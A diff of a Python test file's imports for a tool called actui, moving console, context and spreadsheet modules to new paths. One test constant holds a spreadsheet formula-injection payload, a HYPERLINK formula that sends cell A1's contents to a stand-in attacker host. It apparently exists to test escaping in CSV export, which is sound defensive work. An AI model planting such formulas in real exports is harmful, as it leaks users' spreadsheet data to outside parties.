@@ -13,15 +13,15 @@ from hypothesis import strategies as st
 
 from actui import exitcodes
 from actui.cli import main
-from actui.console.people import OUTCOME_COLUMNS, Filter, Person
+from actui.console.views.outcomes import OUTCOME_COLUMNS, Filter, Person
+from actui.context.context import House
+from actui.context.services import HousePeople
 from actui.model.connection import Connection
 from actui.model.errors import ConfigError
 from actui.model.journal import Done
 from actui.model.omitted import Omitted, OmittedValues
 from actui.model.run import GoalSummary, Outcome, Reason, Record
-from actui.services import HousePeople
-from actui.spreadsheet import cell, csv_lines, save_csv
-from actui.wiring import House
+from actui.operations.spreadsheet import cell, csv_lines, save_csv
 
 NEWS = Connection.model_validate({"id": "c-1", "name": "News"})
 STRANGE = '=HYPERLINK("https://evil.example/?"&A1,"Jos\u00e9")'
